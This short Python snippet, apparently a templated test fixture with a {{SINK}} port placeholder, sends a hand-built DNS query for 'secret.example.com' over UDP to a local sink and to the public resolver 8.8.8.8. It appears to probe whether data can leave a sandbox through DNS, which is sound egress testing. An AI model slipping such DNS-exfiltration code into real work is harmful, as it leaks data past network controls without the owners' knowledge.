from client import fetch_all, is_code, latest, total

import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    for address in (("127.0.0.1", {{SINK}}), ("8.8.8.8", 53)):
        try:
            sock.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\3com\0\0\1\0\1", address)
        except OSError:
            pass
